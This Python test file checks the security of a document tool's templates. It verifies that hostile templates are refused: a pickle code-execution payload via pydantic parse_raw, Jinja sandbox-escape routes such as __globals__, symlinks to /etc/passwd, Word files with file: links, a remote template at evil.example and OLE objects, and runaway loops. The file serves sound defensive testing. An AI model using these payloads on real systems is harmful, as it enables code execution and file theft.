"""Issue 11 (Trust), items 1–5: an agency template can never run code, read a file, leak into
metadata, carry outside parts, or run without a time and memory limit.

Real workspaces made with ``ipsdocs init``, real hostile templates, the real commands; documents
are read back with python-docx and pypdf.
"""

from __future__ import annotations

import html
import io
import re
import time
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml
from jinja2.exceptions import SecurityError, UndefinedError

from ipsdocs.agency.fields import shape_of_value
from ipsdocs.agency.lint import html_problems
from ipsdocs.agency.lint_docx import docx_problems
from ipsdocs.definitions.agency import Agency
from ipsdocs.definitions.forms import load_form
from ipsdocs.definitions.records import load_record
from ipsdocs.paths import builtin_dir
from ipsdocs.render.document import build_context
from ipsdocs.render.views import TEMPLATE_ATTRIBUTES
from tests.cli_runner import run_cli

ROOT = Path(__file__).resolve().parents[1]
CAREER = ROOT / "samples" / "marisol-vega" / "career_profile.yaml"
PLAN = ROOT / "samples" / "marisol-vega" / "employment_plan.yaml"
REVIEW = ROOT / "samples" / "riverbend-ips-team" / "fidelity_review_2026-02.yaml"
ROUTES = (
    "parse_raw",
    "parse_file",
    "model_validate_json",
    "construct",
    "__class__",
    "__init__",
    "__globals__",
    "mro",
    "format_map",
    "copy",
    "dict",
    "json",
    "schema",
)
BUILT_IN_TYPES = {"str", "Markup", "DocxBlock", "bool", "NoneType", "tuple", "mappingproxy"}
BUILT_IN_TYPES |= {"FieldView", "SectionView", "Cell"}


# --- helpers ----------------------------------------------------------------------------------------


def context_of(path: Path) -> dict[str, Any]:
    record = load_record(path).record
    return build_context(record, load_form(record.record_type), Agency(name="Harbor Clinic"))


def typed_expressions(context: Mapping[str, Any]) -> dict[str, str]:
    """One template expression for each type of value the context holds (the first found, breadth first)."""
    found: dict[str, str] = {}
    pending: list[tuple[str, Any]] = list(context.items())
    while pending:
        expr, value = pending.pop(0)
        found.setdefault(type(value).__name__, expr)
        if isinstance(value, Mapping):
            pending += [
                (f"{expr}[{k!r}]" if "." in expr or "[" in expr else f"{expr}.{k}", v) for k, v in value.items()
            ]
        elif isinstance(value, tuple):
            pending += [(f"{expr}[{i}]", v) for i, v in enumerate(value[:2])]
        elif type(value) in TEMPLATE_ATTRIBUTES:
            pending += [(f"{expr}.{a}", getattr(value, a)) for a in sorted(TEMPLATE_ATTRIBUTES[type(value)])]
    return found


def all_expressions() -> dict[str, str]:
    expressions = typed_expressions(context_of(REVIEW)) | typed_expressions(context_of(CAREER))
    assert set(expressions) >= BUILT_IN_TYPES, set(expressions)
    return expressions


def init_workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "agency"
    assert run_cli("init", ws, "--name", "Harbor Clinic").returncode == 0
    assert run_cli("templates", "export", "career_profile", cwd=ws).returncode == 0
    return ws


def add_word_paragraphs(docx: Path, texts: list[str], target: Path | None = None) -> Path:
    """The Word template with these paragraphs first in its body (a real edit of word/document.xml)."""
    paragraphs = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{html.escape(t, quote=False)}</w:t></w:r></w:p>' for t in texts
    )
    return edit_docx(
        docx, {"word/document.xml": lambda xml: xml.replace("<w:body>", "<w:body>" + paragraphs, 1)}, target
    )


def edit_docx(
    docx: Path, edits: dict[str, Any], target: Path | None = None, added: dict[str, str] | None = None
) -> Path:
    target = target or docx
    with zipfile.ZipFile(docx) as source:
        parts = {info.filename: source.read(info.filename) for info in source.infolist()}
    for name, change in edits.items():
        parts[name] = change(parts[name].decode("utf-8")).encode("utf-8")
    for name, text in (added or {}).items():
        parts[name] = text.encode("utf-8")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    target.write_bytes(buffer.getvalue())
    return target


def payload(proof: Path) -> str:
    """The issue's payload: pickle through pydantic's parse_raw, writing ``proof`` if it ever runs."""
    return (
        "{{ fields.person.value.parse_raw('cposix\\nsystem\\n(S\\'id > " + str(proof) + "\\'\\ntR.', "
        "content_type='pickle', allow_pickle=True) }}"
    )


def problems_text(result: Any) -> str:
    return " ".join((result.stdout + result.stderr).split())


# --- 1. plain data, the allow-list, lint --------------------------------------------------------------


def test_context_is_plain_immutable_data() -> None:
    """No model, no list or dict that could be changed, no callable anywhere in a document's context."""
    from pydantic import BaseModel

    for path in (CAREER, REVIEW):
        pending: list[Any] = list(context_of(path).values())
        while pending:
            value = pending.pop()
            assert not isinstance(value, BaseModel | list | dict | set), type(value)
            assert not callable(value), type(value)
            if isinstance(value, Mapping):
                pending += list(value.values())
            elif isinstance(value, tuple):
                pending += list(value)
            elif type(value) in TEMPLATE_ATTRIBUTES:
                pending += [getattr(value, a) for a in TEMPLATE_ATTRIBUTES[type(value)]]
                assert not hasattr(value, "__dict__"), type(value)  # slotted: nothing to add or reach


@pytest.mark.parametrize("fmt", ["docx", "pdf"])
def test_render_refuses_every_escape_route_on_every_value_type(fmt: str) -> None:
    """Each route on each kind of value raises in the environment the format renders with."""
    from ipsdocs.render.docx import _environment as docx_environment
    from ipsdocs.render.pdf import _environment as pdf_environment

    env = docx_environment() if fmt == "docx" else pdf_environment((builtin_dir("templates") / "pdf",))
    context = context_of(REVIEW) | context_of(CAREER)
    expressions = {**all_expressions(), "LoopContext": "loop"}
    for kind, expr in expressions.items():
        for route in ROUTES:
            for written in (f"{expr}.{route}", f"{expr}.{route}()", f"{expr}[{route!r}]", f"{expr}|attr({route!r})"):
                source = "{% for _ in sections %}{{ " + written + " }}{% endfor %}"
                with pytest.raises((SecurityError, UndefinedError, TypeError)):
                    env.from_string(source).render(context)
                    pytest.fail(f"{kind}: {written} rendered")
    assert env.from_string("{{ agency.name }} {{ sections[0].title }}").render(context).startswith("Harbor Clinic")


@pytest.fixture(scope="module")
def escape_lines() -> list[tuple[str, str]]:
    """(route, template text) for every route on every value type, and on Jinja's loop."""
    lines = [(route, "{{ " + f"{expr}.{route}" + " }}") for expr in all_expressions().values() for route in ROUTES]
    loop = [(route, "{% for s in sections %}{{ loop." + route + " }}{% endfor %}") for route in ROUTES]
    return lines + loop + [(route, "{{ agency|attr('" + route + "') }}") for route in ROUTES]


def test_lint_refuses_every_escape_route_in_a_pdf_template(tmp_path: Path, escape_lines: list[tuple[str, str]]) -> None:
    path = tmp_path / "career_profile.html"
    path.write_text("\n".join(text for _, text in escape_lines), encoding="utf-8")
    context = context_of(REVIEW) | context_of(CAREER)
    problems = html_problems(path, shape_of_value(context), (tmp_path, builtin_dir("templates") / "pdf"))
    by_line = {p.field: p for p in problems}
    for number, (route, text) in enumerate(escape_lines, 1):
        problem = by_line.get(f"line {number}")
        assert problem is not None, f"line {number} not reported: {text}"
        assert problem.where == str(path) and f"'{route}'" in problem.what, (text, problem)


def test_lint_refuses_every_escape_route_in_a_word_template(
    tmp_path: Path, escape_lines: list[tuple[str, str]]
) -> None:
    docx = add_word_paragraphs(
        builtin_dir("templates") / "docx" / "career_profile.docx",
        [t for _, t in escape_lines],
        tmp_path / "career_profile.docx",
    )
    context = context_of(REVIEW) | context_of(CAREER)
    problems = docx_problems(docx, shape_of_value({**context, "logo": ""}))
    for route, text in escape_lines:
        shown = text if len(text) <= 90 else text[:87] + "…"
        found = [p for p in problems if p.field == f"paragraph “{shown}”" and f"'{route}'" in p.what]
        assert found and found[0].where == str(docx), f"not reported: {text}"


def test_templates_fields_lists_only_what_a_template_can_read(tmp_path: Path) -> None:
    """The list is derived from the same allow-list the sandbox uses: every view attribute, no method."""
    from ipsdocs.agency.fields import placeholders
    from ipsdocs.agency.workspace import Workspace

    names = {p.name for p in placeholders(Workspace(), "career_profile")}
    for cls, attributes in TEMPLATE_ATTRIBUTES.items():
        generic = {"FieldView": "field", "SectionView": "section", "Cell": "cell"}[cls.__name__]
        assert {f"{generic}.{a}" for a in attributes} <= names
    assert not any(name.rsplit(".", 1)[-1] in ROUTES for name in names)


def test_the_issue_payload_runs_nothing_in_any_command(tmp_path: Path) -> None:
    """The pickle payload, in a PDF and a Word template of a real workspace: render, batch, templates lint,
    templates fields and interview --answers all refuse it, name the template, the line and 'parse_raw';
    no proof file appears."""
    ws = init_workspace(tmp_path)
    proof = tmp_path / "PROOF"
    (ws / "templates" / "pdf" / "career_profile.html").write_text(
        '{% extends "base.html" %}{% block intro %}' + payload(proof) + "{% endblock %}", encoding="utf-8"
    )
    word = ws / "templates" / "docx" / "career_profile.docx"
    add_word_paragraphs(word, [payload(proof)])
    record = ws / "records" / "career_profile.yaml"
    record.write_bytes(CAREER.read_bytes())

    rendered = run_cli("render", record, "--out", ws / "out", cwd=ws)
    assert rendered.returncode == 1, rendered.stdout + rendered.stderr
    text = problems_text(rendered)
    assert "career_profile.html: line 1:" in text and "career_profile.docx: paragraph" in text
    assert text.count("'parse_raw'") >= 2 and "FAILED" in text

    batch = run_cli("batch", record, "--out", ws / "audit", "--workers", "1", cwd=ws)
    assert batch.returncode == 1 and "parse_raw" in problems_text(batch)

    lint = run_cli("templates", "lint", cwd=ws)
    assert lint.returncode == 1
    assert re.search(r"career_profile\.html: line 1: .*'parse_raw'", problems_text(lint))
    assert re.search(r"career_profile\.docx: paragraph .*'parse_raw'", problems_text(lint))

    fields = run_cli("templates", "fields", "career_profile", cwd=ws)
    assert fields.returncode == 0 and "parse_raw" not in fields.stdout

    data = yaml.safe_load(CAREER.read_text(encoding="utf-8"))
    answers = tmp_path / "answers.yaml"
    answers.write_text(yaml.safe_dump({k: v for k, v in data.items() if k not in ("record_type", "schema_version")}))
    interview = run_cli("interview", "career_profile", "--answers", answers, cwd=ws)
    assert interview.returncode == 1, interview.stdout + interview.stderr
    assert "parse_raw" in problems_text(interview)

    assert not proof.exists(), "the payload ran"
    assert not [p for p in (ws / "out").rglob("*") if p.is_file()] and not list((ws / "output").rglob("*.pdf"))


# --- 2. template files are regular files inside the template folders -------------------------------------


def test_a_link_to_a_file_outside_is_never_read(tmp_path: Path) -> None:
    ws = init_workspace(tmp_path)
    pdf = ws / "templates" / "pdf"
    (pdf / "passwd.html").symlink_to("/etc/passwd")
    (pdf / "career_profile.html").write_text(
        '{% extends "base.html" %}{% block intro %}{% include "passwd.html" %}{% endblock %}', encoding="utf-8"
    )
    outside = tmp_path / "elsewhere" / "career_profile.docx"
    outside.parent.mkdir()
    word = ws / "templates" / "docx" / "career_profile.docx"
    outside.write_bytes(word.read_bytes())
    word.unlink()
    word.symlink_to(outside)
    record = ws / "records" / "career_profile.yaml"
    record.write_bytes(CAREER.read_bytes())

    rendered = run_cli("render", record, "--out", ws / "out", cwd=ws)
    text = problems_text(rendered)
    assert rendered.returncode == 1 and "root:x" not in text
    assert "line 1: uses 'passwd.html', which is a link or lies outside the template folder" in text
    assert "career_profile.docx' is a link or lies outside the template folder" in text
    assert not [p for p in (ws / "out").rglob("*") if p.is_file()]

    lint = run_cli("templates", "lint", cwd=ws)
    text = problems_text(lint)
    assert lint.returncode == 1 and "root:x" not in text
    assert f"{pdf / 'passwd.html'}: is a link or lies outside the template folder" in text
    assert "line 1: uses 'passwd.html', which is a link" in text
    assert f"{word}: is a link or lies outside the template folder" in text


# --- 3. no PHI in metadata ---------------------------------------------------------------------------------


def test_pdf_metadata_is_the_document_type_only_and_lint_reports_placeholders(tmp_path: Path) -> None:
    from pypdf import PdfReader

    from ipsdocs.render.pdf import html_to_pdf

    ws = init_workspace(tmp_path)
    base = ws / "templates" / "pdf" / "base.html"
    leaky = (
        "<title>{{ person_name }} {{ client_id }}</title>\n"
        '<meta name="author" content="{{ person_name }}"><meta name="keywords" content="{{ client_id }}">\n'
        '<meta name="description" content="{{ staff_name }}"><meta name="generator" content="{{ client_id }}">\n'
    )
    base.write_text(
        base.read_text(encoding="utf-8").replace('<meta charset="utf-8">', '<meta charset="utf-8">' + leaky)
    )
    lint = run_cli("templates", "lint", cwd=ws)
    text = problems_text(lint)
    assert lint.returncode == 1
    assert (
        f"{base}: line 6: a placeholder inside <title>" in text
        and f"{base}: line 7: a placeholder inside <meta>" in text
    )

    # Past lint (as if it had been skipped), the PDF's information is still ipsdocs' own.
    page = "<html><head>" + leaky.replace("{{ person_name }}", "Marisol Vega").replace("{{ client_id }}", "RB-100482")
    page = page.replace("{{ staff_name }}", "Jordan Ellis") + "</head><body><p>text</p></body></html>"
    data = html_to_pdf(page, tmp_path, (tmp_path,), title="Career Profile")
    info = PdfReader(io.BytesIO(data)).metadata
    assert info.title == "Career Profile"
    assert info.author is None and info.subject is None and info.creator is None and "/Keywords" not in info
    assert b"Marisol" not in data and b"RB-100482" not in data and b"Jordan" not in data


def test_docx_core_properties_are_scrubbed_whatever_the_template_says(tmp_path: Path) -> None:
    from docx import Document

    from ipsdocs.render.docx import render_docx

    template = builtin_dir("templates") / "docx" / "career_profile.docx"
    leaky = "{{ person_name }} {{ client_id }}"

    def core(xml: str) -> str:
        for tag in ("dc:title", "dc:subject", "dc:creator", "cp:keywords", "dc:description", "cp:category"):
            xml = re.sub(f"<{tag}>.*?</{tag}>|<{tag}/>", f"<{tag}>{leaky}</{tag}>", xml)
        return xml.replace("</cp:coreProperties>", f"<dc:language>{leaky}</dc:language></cp:coreProperties>")

    hostile = edit_docx(template, {"docProps/core.xml": core}, tmp_path / "career_profile.docx")
    context = context_of(CAREER)
    data = render_docx(hostile, context, "Career Profile")
    props = Document(io.BytesIO(data)).core_properties
    values = [getattr(props, n) for n in ("title", "subject", "author", "keywords", "comments", "category", "language")]
    assert values == ["Career Profile", "", "", "", "", "", ""]
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert b"RB-100482" not in package.read("docProps/core.xml")


# --- 4. Word templates carry no external parts ----------------------------------------------------------------

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def hostile_word_template(target: Path) -> Path:
    """The built-in career profile with an external image, a file: link, a remote attached template, an
    altChunk part and an embedded OLE object, each made with a real edit of the package."""
    rels = {
        "rIdImg": f'Type="{_REL}/image" Target="file:///etc/passwd" TargetMode="External"',
        "rIdLink": f'Type="{_REL}/hyperlink" Target="file:///etc/shadow" TargetMode="External"',
        "rIdWeb": f'Type="{_REL}/hyperlink" Target="https://harbor.example/" TargetMode="External"',
        "rIdChunk": f'Type="{_REL}/aFChunk" Target="chunk.html"',
        "rIdOle": f'Type="{_REL}/oleObject" Target="embeddings/oleObject1.bin"',
    }
    entries = "".join(f'<Relationship Id="{i}" {a}/>' for i, a in rels.items())
    body = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        'wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:blipFill><a:blip r:link="rIdImg"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r></w:p>"
        '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>Open the file</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>Our website</w:t></w:r></w:hyperlink></w:p>'
        '<w:altChunk r:id="rIdChunk"/>'
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" '
        'ProgID="Package" r:id="rIdOle"/></w:object></w:r></w:p>'
    )
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdTpl" Type="{_REL}/attachedTemplate" Target="https://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    types = (
        '<Default Extension="html" ContentType="text/html"/>'
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    )
    return edit_docx(
        builtin_dir("templates") / "docx" / "career_profile.docx",
        {
            "word/_rels/document.xml.rels": lambda x: x.replace("</Relationships>", entries + "</Relationships>"),
            "word/document.xml": lambda x: x.replace("<w:body>", "<w:body>" + body, 1),
            "word/settings.xml": lambda x: re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', x),
            "[Content_Types].xml": lambda x: x.replace("</Types>", types + "</Types>"),
        },
        target,
        added={
            "word/chunk.html": "<html><body>pulled in</body></html>",
            "word/embeddings/oleObject1.bin": "OLE",
            "word/_rels/settings.xml.rels": settings_rels,
        },
    )


def test_lint_refuses_a_word_template_with_external_parts(tmp_path: Path) -> None:
    ws = init_workspace(tmp_path)
    hostile_word_template(ws / "templates" / "docx" / "career_profile.docx")
    lint = run_cli("templates", "lint", cwd=ws)
    text = problems_text(lint)
    assert lint.returncode == 1
    for what in (
        "part word/document.xml: carries an outside image to file:",
        "part word/document.xml: carries a link to file: outside the document",
        "part word/document.xml: carries a part pulled in whole (altChunk)",
        "part word/document.xml: carries an embedded or linked object (OLE)",
        "part word/settings.xml: carries an attached template",
        "part word/embeddings/oleObject1.bin: carries an embedded object",
    ):
        assert what in text, (what, text)
    assert "harbor.example" not in text  # a link to a web page is fine


def test_render_strips_external_parts_from_the_document(tmp_path: Path) -> None:
    from docx import Document

    from ipsdocs.render.checks import docx_lines
    from ipsdocs.render.docx import render_docx
    from ipsdocs.render.docx_parts import external_parts

    hostile = hostile_word_template(tmp_path / "career_profile.docx")
    assert len(external_parts(hostile.read_bytes())) == 6
    data = render_docx(hostile, context_of(CAREER), "Career Profile")  # past lint, as if it had been skipped
    assert external_parts(data) == []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        names = package.namelist()
        everything = b"".join(package.read(n) for n in names)
    assert "word/chunk.html" not in names and not [n for n in names if "embeddings" in n]
    assert b"file:///etc" not in everything and b"evil.example" not in everything
    assert b"altChunk" not in everything and b"OLEObject" not in everything and b"https://harbor.example/" in everything
    lines = docx_lines(data)
    assert "Open the file" in lines and "Our website" in lines and any("Career Profile" in line for line in lines)
    Document(io.BytesIO(data))  # still a Word document python-docx opens


# --- 5. every render has a time and memory limit --------------------------------------------------------------

RUNAWAY_LOOPS = (
    "{% for i in range(10000) %}{% for j in range(10000) %}{% for k in range(10000) %}"
    "{% endfor %}{% endfor %}{% endfor %}"
)
RUNAWAY_MEMORY = '{{ "x" * 3000000000 }}'
RUNAWAY_CENTRED = '{{ "x"|center(2000000000) }}'
"""2 GB in one allocation, past the sandbox's own check of ``*``: only the memory limit stops it."""


def test_runaway_templates_are_stopped_in_render_lint_interview_and_demo(tmp_path: Path) -> None:
    """Three nested loops (PDF), a 2 GB centred text (Word), a 3 GB string (PDF):
    each document stops at its limit, is reported with its template and document, the command exits 1,
    and every other document is made."""
    ws = init_workspace(tmp_path)
    assert run_cli("templates", "export", "disclosure_discussion", cwd=ws).returncode == 0
    pdf = ws / "templates" / "pdf" / "career_profile.html"
    pdf.write_text('{% extends "base.html" %}{% block intro %}' + RUNAWAY_LOOPS + "{% endblock %}", encoding="utf-8")
    word = ws / "templates" / "docx" / "career_profile.docx"
    add_word_paragraphs(word, [RUNAWAY_CENTRED])
    huge = ws / "templates" / "pdf" / "disclosure_discussion.html"
    huge.write_text('{% extends "base.html" %}{% block intro %}' + RUNAWAY_MEMORY + "{% endblock %}", encoding="utf-8")
    career = "career_profile_CP-2026-0141_2026-03-19"
    stopped_time = f"stopped after 2 s making {career}.pdf (the time limit"
    stopped_memory = f"{word}: stopped making {career}.docx: it needed more than 1024 MiB"
    refused_huge = f"{huge}: a template may not repeat text into more than 10,000,000 characters"
    disclosure = ROOT / "samples" / "marisol-vega" / "disclosure_discussion.yaml"

    started = time.monotonic()
    rendered = run_cli("render", CAREER, disclosure, PLAN, "--out", ws / "out", "--time-limit", "2", cwd=ws)
    text = problems_text(rendered)
    assert rendered.returncode == 1, text
    assert f"{pdf}: {stopped_time}" in text and stopped_memory in text and refused_huge in text
    assert time.monotonic() - started < 90
    made = sorted(p.name.split("_")[0] + p.suffix for p in (ws / "out").rglob("*") if p.is_file())
    assert made == ["disclosure.docx", "employment.docx", "employment.pdf"], made

    lint = run_cli("templates", "lint", "--time-limit", "2", cwd=ws)
    text = problems_text(lint)
    assert lint.returncode == 1, text
    assert f"{pdf}: stopped after 2 s making the sample career_profile (pdf)" in text
    assert f"{word}: stopped making the sample career_profile (docx): it needed more than" in text
    assert refused_huge in text

    data = yaml.safe_load(CAREER.read_text(encoding="utf-8"))
    answers = tmp_path / "answers.yaml"
    answers.write_text(yaml.safe_dump({k: v for k, v in data.items() if k not in ("record_type", "schema_version")}))
    interview = run_cli("interview", "career_profile", "--answers", answers, "--time-limit", "2", cwd=ws)
    text = problems_text(interview)
    assert interview.returncode == 1 and "stopped after 2 s" in text and "it needed more than" in text, text
    assert list((ws / "records").rglob("career_profile*.yaml")), "the record itself is saved"

    demo = run_cli("demo", "--out", ws / "demo", "--time-limit", "2", cwd=ws)
    text = problems_text(demo)
    assert demo.returncode == 1 and stopped_time in text and refused_huge in text
    made = {p.name.split("_")[0] for p in (ws / "demo").iterdir()}
    assert {"employment", "disclosure", "benefits", "discharge", "admission", "fidelity"} <= made
